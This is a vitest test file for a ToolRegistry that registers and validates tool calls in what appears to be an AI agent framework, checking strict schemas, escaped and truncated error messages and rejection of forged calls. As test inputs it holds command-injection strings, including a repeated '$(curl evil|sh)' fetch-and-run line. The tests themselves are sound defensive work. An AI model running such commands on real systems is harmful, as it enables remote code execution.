import { describe, expect, it } from "vitest";
import { z } from "zod";
import { toolCall } from "../src/core/messages.js";
import {
  isToolResult,
  ToolRegistry,
  toolError,
  toolSuccess,
  type ToolContext,
  type ToolDefinition,
  type ValidToolCall,
} from "../src/core/tools.js";

const context: ToolContext = Object.freeze({ workspace: "/work", identity: "user" });

/** A tool `echo` that records every input and context its handler is given. */
function echoTool(seen: unknown[] = []): ToolDefinition<{ text: string }> {
  return {
    name: "echo",
    description: "Repeat the text.",
    inputSchema: z.strictObject({ text: z.string() }),
    effect: "read",
    handler: (input, ctx) => {
      seen.push({ input, context: ctx });
      return Promise.resolve(toolSuccess(input.text));
    },
  };
}

function registryWith(...definitions: ToolDefinition<{ text: string }>[]): ToolRegistry {
  const registry = new ToolRegistry();
  for (const definition of definitions) registry.register(definition);
  return registry;
}

/** `prepare(call)` for a call that must be valid. */
function valid(registry: ToolRegistry, args: string, name = "echo"): ValidToolCall {
  const prepared = registry.prepare(toolCall("c1", name, args));
  if (prepared.error !== undefined) throw new Error(`expected a valid call, got ${prepared.error.content}`);
  return prepared;
}

describe("ToolResult", () => {
  it("toolSuccess is a frozen success value", () => {
    const result = toolSuccess("hello");
    expect(result).toStrictEqual({ content: "hello", isError: false });
    expect(Object.isFrozen(result)).toBe(true);
  });

  it("toolError puts its stable code in front of the message and is frozen", () => {
    const result = toolError("unknown_tool", "Unknown tool: nope");
    expect(result).toStrictEqual({
      content: "Error [unknown_tool]: Unknown tool: nope",
      isError: true,
      errorCode: "unknown_tool",
    });
    expect(Object.isFrozen(result)).toBe(true);
  });

  it.each<[unknown, boolean]>([
    [{ content: "x", isError: false }, true],
    [{ content: "x", isError: true, errorCode: "c" }, true],
    [{ content: "x", isError: true }, false],
    [{ content: "x", isError: true, errorCode: "" }, false],
    [{ content: "x", isError: true, errorCode: 3 }, false],
    [{ content: 1, isError: false }, false],
    [{ content: "x", isError: "false" }, false],
    [{ content: "x" }, false],
    ["x", false],
    [null, false],
    [undefined, false],
  ])("isToolResult(%j) is %s", (value, expected) => {
    expect(isToolResult(value)).toBe(expected);
  });
});

describe("ToolRegistry.register", () => {
  it("refuses a name the model could not call, a second tool of one name, and a schema that is not strict", () => {
    const registry = registryWith(echoTool());
    expect(() => registry.register({ ...echoTool(), name: "read file" })).toThrow(
      new TypeError('invalid tool name "read file"'),
    );
    expect(() => registry.register({ ...echoTool(), name: "" })).toThrow(new TypeError('invalid tool name ""'));
    expect(() => registry.register(echoTool())).toThrow(new TypeError('tool "echo" is already registered'));
    const loose: ToolDefinition<{ text: string }> = {
      ...echoTool(),
      name: "loose",
      inputSchema: z.object({ text: z.string() }),
    };
    expect(() => registry.register(loose)).toThrow(
      new TypeError('tool "loose" must use z.strictObject for its input schema'),
    );
    expect(registry.openAITools().map((tool) => tool.function.name)).toEqual(["echo"]);
  });

  it.each(["read-file", "名字", "x.y", "a b"])(
    "refuses the tool name %j: only A-Z, a-z, 0-9 and _ reach the model",
    (name) => {
      expect(() => new ToolRegistry().register({ ...echoTool(), name })).toThrow(
        new TypeError(`invalid tool name "${name}"`),
      );
    },
  );

  it("refuses a z.looseObject schema, which would let unknown fields through", () => {
    const loose: ToolDefinition<{ text: string }> = { ...echoTool(), inputSchema: z.looseObject({ text: z.string() }) };
    expect(() => new ToolRegistry().register(loose)).toThrow(
      new TypeError('tool "echo" must use z.strictObject for its input schema'),
    );
  });
});

describe("ToolRegistry.openAITools", () => {
  it("shows the model name, description and the JSON Schema made from the Zod schema, never the handler or effect", () => {
    expect(registryWith(echoTool()).openAITools()).toStrictEqual([
      {
        type: "function",
        function: {
          name: "echo",
          description: "Repeat the text.",
          parameters: {
            $schema: "https://json-schema.org/draft/2020-12/schema",
            type: "object",
            properties: { text: { type: "string" } },
            required: ["text"],
            additionalProperties: false,
          },
        },
      },
    ]);
  });

  it("is frozen all the way down, so no model client can change what a later turn shows", () => {
    const registry = registryWith(echoTool());
    const [tool] = registry.openAITools();
    const parameters = tool?.function.parameters as { properties: { text: Record<string, unknown> } };
    expect(Object.isFrozen(registry.openAITools())).toBe(true);
    expect(Object.isFrozen(tool)).toBe(true);
    expect(Object.isFrozen(tool?.function)).toBe(true);
    expect(() => {
      parameters.properties.text.type = "number";
    }).toThrow(TypeError);
    expect(registry.openAITools()[0]?.function.parameters).toStrictEqual(tool?.function.parameters);
    expect(parameters.properties.text.type).toBe("string");
  });

  it("lists tools in the order they were registered", () => {
    const registry = registryWith(echoTool(), { ...echoTool(), name: "second" }, { ...echoTool(), name: "third" });
    expect(registry.openAITools().map((tool) => tool.function.name)).toEqual(["echo", "second", "third"]);
  });
});

describe("ToolRegistry.prepare", () => {
  it("looks the tool up, parses the JSON and validates it, and runs nothing", () => {
    const seen: unknown[] = [];
    const registry = registryWith(echoTool(seen));
    const prepared = valid(registry, '{"text":"hi"}');
    expect(prepared.call).toStrictEqual(toolCall("c1", "echo", '{"text":"hi"}'));
    expect(prepared.definition.name).toBe("echo");
    expect(prepared.definition.effect).toBe("read");
    expect(prepared.arguments).toStrictEqual({ text: "hi" });
    expect(seen).toEqual([]);
  });

  it.each<[string, string, string, string, string]>([
    ["an unknown tool", "nope", '{"text":"hi"}', "unknown_tool", "Error [unknown_tool]: Unknown tool: nope"],
    [
      "arguments that are not JSON",
      "echo",
      "{not json",
      "invalid_json",
      "Error [invalid_json]: Arguments of echo must be a JSON object",
    ],
    ["a JSON array", "echo", "[1,2]", "invalid_json", "Error [invalid_json]: Arguments of echo must be a JSON object"],
    [
      "a JSON string",
      "echo",
      '"text"',
      "invalid_json",
      "Error [invalid_json]: Arguments of echo must be a JSON object",
    ],
    ["JSON null", "echo", "null", "invalid_json", "Error [invalid_json]: Arguments of echo must be a JSON object"],
    ["a JSON number", "echo", "42", "invalid_json", "Error [invalid_json]: Arguments of echo must be a JSON object"],
    ["JSON true", "echo", "true", "invalid_json", "Error [invalid_json]: Arguments of echo must be a JSON object"],
    [
      "a wrong type and an unknown field at once, both named in one message",
      "echo",
      '{"text":5,"extra":1}',
      "invalid_arguments",
      'Error [invalid_arguments]: Invalid arguments for echo: text: Invalid input: expected string, received number; (arguments): Unrecognized key: "extra"',
    ],
    [
      "a field of the wrong type",
      "echo",
      '{"text":5}',
      "invalid_arguments",
      "Error [invalid_arguments]: Invalid arguments for echo: text: Invalid input: expected string, received number",
    ],
    [
      "an unknown field",
      "echo",
      '{"text":"hi","extra":1}',
      "invalid_arguments",
      'Error [invalid_arguments]: Invalid arguments for echo: (arguments): Unrecognized key: "extra"',
    ],
    [
      "empty arguments, read as {}",
      "echo",
      "",
      "invalid_arguments",
      "Error [invalid_arguments]: Invalid arguments for echo: text: Invalid input: expected string, received undefined",
    ],
  ])("turns %s into a tool error without running the handler", (_name, tool, args, errorCode, content) => {
    const seen: unknown[] = [];
    const call = toolCall("c1", tool, args);
    expect(registryWith(echoTool(seen)).prepare(call)).toStrictEqual({
      call,
      error: { content, isError: true, errorCode },
    });
    expect(seen).toEqual([]);
  });
});

describe("what an error repeats of the model's own text is bounded", () => {
  it.each<[string, string, string]>([
    ["a name that could be a tool's", "read-file.v2_x", "read-file.v2_x"],
    ["a trailing space", "shell ", "shell\\u0020"],
    ["a path", "../shell", "..\\u002fshell"],
    ["a NUL and a newline", "write_file\u0000\n", "write_file\\u0000\\u000a"],
    ["shell syntax", "x;$(id)`id`|sh", "x\\u003b\\u0024\\u0028id\\u0029\\u0060id\\u0060\\u007csh"],
    ["a backslash, which could fake an escape", "a\\u0020", "a\\u005cu0020"],
    ["CJK and an emoji", "读文件😀", "\\u8bfb\\u6587\\u4ef6\\ud83d\\ude00"],
  ])(
    "an unknown name with %s is repeated with every other character than A-Z, a-z, 0-9, _, - and . escaped",
    (_name, name, shown) => {
      const call = toolCall("c1", name, "{}");
      expect(registryWith(echoTool()).prepare(call)).toStrictEqual({
        call,
        error: toolError("unknown_tool", `Unknown tool: ${shown}`),
      });
    },
  );

  it("a 31 KB unknown name is repeated as its first 64 characters and …, so the error stays a few hundred bytes", () => {
    const name = `${"a".repeat(63)};${"$(curl evil|sh)\n".repeat(2_000)}`;
    const prepared = registryWith(echoTool()).prepare(toolCall("c1", name, "{}"));
    const content = `Error [unknown_tool]: Unknown tool: ${"a".repeat(63)}\\u003b…`;
    expect(prepared.error).toStrictEqual({ content, isError: true, errorCode: "unknown_tool" });
    expect(Buffer.byteLength(content)).toBe(108);
    expect(name.length).toBeGreaterThan(31_000);
  });

  it("a name of exactly 64 characters is repeated whole, one of 65 is cut", () => {
    const registry = registryWith(echoTool());
    expect(registry.prepare(toolCall("c1", "n".repeat(64), "{}")).error?.content).toBe(
      `Error [unknown_tool]: Unknown tool: ${"n".repeat(64)}`,
    );
    expect(registry.prepare(toolCall("c1", "n".repeat(65), "{}")).error?.content).toBe(
      `Error [unknown_tool]: Unknown tool: ${"n".repeat(64)}…`,
    );
  });

  it("a forged prepared call with a huge name not in the registry is repeated the same bounded way", async () => {
    const registry = registryWith(echoTool());
    const prepared = valid(registry, '{"text":"hi"}');
    const forged: ValidToolCall = { ...prepared, definition: { ...prepared.definition, name: "g\n".repeat(20_000) } };
    expect(await registry.invoke(forged, context)).toStrictEqual(
      toolError("unknown_tool", `Unknown tool: ${"g\\u000a".repeat(32)}…`),
    );
  });

  it("invalid_arguments quotes at most 1,000 characters of problems: a 31 KB key is cut, not repeated", () => {
    const key = "k".repeat(31_000);
    const prepared = registryWith(echoTool()).prepare(toolCall("c1", "echo", JSON.stringify({ text: "hi", [key]: 1 })));
    expect(prepared.error).toStrictEqual(
      toolError("invalid_arguments", `Invalid arguments for echo: (arguments): Unrecognized key: "${"k".repeat(968)}…`),
    );
  });

  it("a problem text of exactly 1,000 characters is kept whole, and a cut never splits a surrogate pair", () => {
    const registry = registryWith(echoTool());
    const problem = (key: string) =>
      registry.prepare(toolCall("c1", "echo", JSON.stringify({ text: "hi", [key]: 1 }))).error?.content;
    const prefix = 'Error [invalid_arguments]: Invalid arguments for echo: (arguments): Unrecognized key: "';
    expect(problem("k".repeat(967))).toBe(`${prefix}${"k".repeat(967)}"`);
    expect(problem(`${"k".repeat(967)}😀`)).toBe(`${prefix}${"k".repeat(967)}…`);
  });

  it.each<[string, string, string]>([
    ["U+10000, whose high half is D800, straddling the cut", `${"k".repeat(967)}\u{10000}`, "k".repeat(967)],
    ["U+10FC00, whose high half is DBFF, straddling the cut", `${"k".repeat(967)}\u{10FC00}`, "k".repeat(967)],
    ["an emoji ending right at the cut", `${"k".repeat(966)}😀`, `${"k".repeat(966)}😀`],
  ])("the 1,000-character cut with %s keeps every pair whole", (_name, key, kept) => {
    const prepared = registryWith(echoTool()).prepare(toolCall("c1", "echo", JSON.stringify({ text: "hi", [key]: 1 })));
    expect(prepared.error?.content).toBe(
      `Error [invalid_arguments]: Invalid arguments for echo: (arguments): Unrecognized key: "${kept}…`,
    );
  });

  it("invalid_arguments names a nested field by its dotted path", () => {
    const registry = new ToolRegistry();
    registry.register({
      name: "nested",
      description: "A nested field.",
      inputSchema: z.strictObject({ outer: z.strictObject({ inner: z.string() }) }),
      effect: "read",
      handler: () => Promise.resolve(toolSuccess("ran")),
    });
    expect(registry.prepare(toolCall("c1", "nested", '{"outer":{"inner":1}}')).error).toStrictEqual(
      toolError(
        "invalid_arguments",
        "Invalid arguments for nested: outer.inner: Invalid input: expected string, received number",
      ),
    );
  });

  it("invalid_arguments lists the first 10 problems and says how many more there are", () => {
    const fields = Object.fromEntries(Array.from({ length: 25 }, (_, n) => [`f${n}`, z.string()]));
    const registry = new ToolRegistry();
    registry.register({
      name: "wide",
      description: "Many fields.",
      inputSchema: z.strictObject(fields),
      effect: "read",
      handler: () => Promise.resolve(toolSuccess("ran")),
    });
    const problems = Array.from({ length: 10 }, (_, n) => `f${n}: Invalid input: expected string, received undefined`);
    expect(registry.prepare(toolCall("c1", "wide", "{}")).error).toStrictEqual(
      toolError("invalid_arguments", `Invalid arguments for wide: ${problems.join("; ")}; 15 more`),
    );
  });
});

describe("ToolRegistry.invoke", () => {
  it("runs the handler with the parsed arguments and the context, and returns its result", async () => {
    const seen: unknown[] = [];
    const registry = registryWith(echoTool(seen));
    expect(await registry.invoke(valid(registry, '{"text":"hi"}'), context)).toStrictEqual(toolSuccess("hi"));
    expect(seen).toStrictEqual([{ input: { text: "hi" }, context }]);
  });

  it("a handler that throws becomes tool_execution_error, with no message or stack trace from inside", async () => {
    const registry = registryWith({
      ...echoTool(),
      handler: () => Promise.reject(new Error("secret internal detail\n    at frame (file.ts:1:1)")),
    });
    expect(await registry.invoke(valid(registry, '{"text":"hi"}'), context)).toStrictEqual({
      content: "Error [tool_execution_error]: Tool echo failed unexpectedly",
      isError: true,
      errorCode: "tool_execution_error",
    });
  });

  it("a handler's own error result passes through unchanged", async () => {
    const own = toolError("text_not_found", "Exact text not found in a.txt");
    const registry = registryWith({ ...echoTool(), handler: () => Promise.resolve(own) });
    expect(await registry.invoke(valid(registry, '{"text":"hi"}'), context)).toBe(own);
  });

  it.each<[string, unknown]>([
    ["content that is not a string", { content: 42, isError: false }],
    ["isError that is not a boolean", { content: "x", isError: "no" }],
    ["an error with an empty code", { content: "x", isError: true, errorCode: "" }],
  ])("a handler returning %s gives invalid_tool_result", async (_name, returned) => {
    const registry = registryWith({
      ...echoTool(),
      handler: () => Promise.resolve(returned as ReturnType<typeof toolSuccess>),
    });
    expect(await registry.invoke(valid(registry, '{"text":"hi"}'), context)).toStrictEqual(
      toolError("invalid_tool_result", "Tool handler returned an invalid result"),
    );
  });

  it("a forged prepared call cannot choose the handler: the registry runs its own definition of that name", async () => {
    const ran: string[] = [];
    const registry = registryWith(echoTool());
    const forged: ValidToolCall = {
      ...valid(registry, '{"text":"hi"}'),
      definition: {
        ...valid(registry, '{"text":"hi"}').definition,
        handler: () => {
          ran.push("forged");
          return Promise.resolve(toolSuccess("forged"));
        },
      },
    };
    expect(await registry.invoke(forged, context)).toStrictEqual(toolSuccess("hi"));
    expect(ran).toEqual([]);
  });

  it("a forged prepared call for a tool the registry does not hold is unknown_tool", async () => {
    const registry = registryWith(echoTool());
    const prepared = valid(registry, '{"text":"hi"}');
    const forged: ValidToolCall = { ...prepared, definition: { ...prepared.definition, name: "ghost" } };
    expect(await registry.invoke(forged, context)).toStrictEqual(toolError("unknown_tool", "Unknown tool: ghost"));
  });

  it("arguments forged past prepare() are validated again before the handler sees them", async () => {
    const seen: unknown[] = [];
    const registry = registryWith(echoTool(seen));
    const forged: ValidToolCall = { ...valid(registry, '{"text":"hi"}'), arguments: { text: 5 } };
    expect(await registry.invoke(forged, context)).toStrictEqual(
      toolError(
        "invalid_arguments",
        "Invalid arguments for echo: text: Invalid input: expected string, received number",
      ),
    );
    expect(seen).toEqual([]);
  });
});

describe("ToolRegistry.snapshot", () => {
  it("is a read-only copy: registering on it throws, and registering on the original later does not reach it", async () => {
    const registry = registryWith(echoTool());
    const snapshot = registry.snapshot();
    registry.register({ ...echoTool(), name: "later" });
    expect(() => snapshot.register({ ...echoTool(), name: "sneaky" })).toThrow(
      new TypeError("a registry snapshot is read-only"),
    );
    expect(snapshot.openAITools().map((tool) => tool.function.name)).toEqual(["echo"]);
    expect(registry.openAITools().map((tool) => tool.function.name)).toEqual(["echo", "later"]);
    expect(snapshot.prepare(toolCall("c1", "later", '{"text":"x"}'))).toStrictEqual({
      call: toolCall("c1", "later", '{"text":"x"}'),
      error: toolError("unknown_tool", "Unknown tool: later"),
    });
    expect(await snapshot.invoke(valid(snapshot, '{"text":"hi"}'), context)).toStrictEqual(toolSuccess("hi"));
  });
});
